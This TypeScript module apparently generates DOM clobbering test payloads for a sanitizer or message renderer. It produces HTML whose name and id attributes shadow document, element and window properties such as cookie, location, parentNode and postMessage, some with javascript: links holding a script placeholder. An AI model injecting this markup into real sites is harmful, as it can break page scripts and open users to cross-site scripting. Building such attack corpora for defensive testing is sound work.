import { family, gathered, type Attack } from './attack.js';

/** What a script that builds a message may ask its document for. */
const ofDocuments = [
  'querySelectorAll querySelector getElementById documentElement body head title adoptNode importNode replaceChild',
  'adoptedStyleSheets addEventListener createElement cookie location defaultView forms links parentNode childNodes',
  'append removeChild currentScript activeElement styleSheets implementation write open close lang dir',
];

/** What it may ask an element for. */
const ofElements = [
  'getAttribute setAttribute removeAttribute removeAttributeNS attributes closest remove style sheet textContent',
  'innerHTML children childNodes firstChild parentNode parentElement ownerDocument nodeName localName tagName',
  'querySelectorAll matches href target hasAttribute addEventListener isConnected dataset',
];

/** What it asks for first, each alone: one that breaks it hides the others. */
const soonAsked = ['querySelectorAll documentElement body title adoptedStyleSheets'];

const words = (lines: string[]) => lines.join(' ').split(' ');
const rest = '<h2>x</h2><a href="javascript:{js}">y</a><p style="color:red">z</p>';

/** Names that stand in for what scripts look for in a document, to break those that build the message. */
export const clobbering: Attack[] = [
  gathered(
    'document, as a picture',
    words(ofDocuments).map((name) => ({ name, html: `<img name="${name}" src="{seen}">${rest}` })),
  ),
  gathered(
    'document, as a form',
    words(ofDocuments).map((name) => ({ name, html: `<form name="${name}"><input name="${name}"></form>` })),
  ),
  gathered(
    'element, in a form',
    words(ofElements).map((name) => ({
      name,
      html: `<form style="color:red" action="{url}"><input name="${name}"><a href="javascript:{js}">x</a></form>`,
    })),
  ),
  ...words(soonAsked).map((name) => ({ name: `document.${name}`, html: `<img name="${name}">${rest}` })),
  ...family('window', {
    'of names':
      '<a id="parent"></a><a id="top"></a><p id="port"></p><img name="trustedTypes"><a id="DOMParser"></a>',
    'of twins': '<a id="parent"></a><a id="parent" name="postMessage" href="x:1"></a>',
    'of ours':
      '<p id="links"></p><p id="all"></p><p id="message"></p><p id="doings"></p><p id="tidings"></p>',
    'of a frame': '<iframe name="parent" srcdoc="<a id=postMessage></a>"></iframe>',
  }),
];
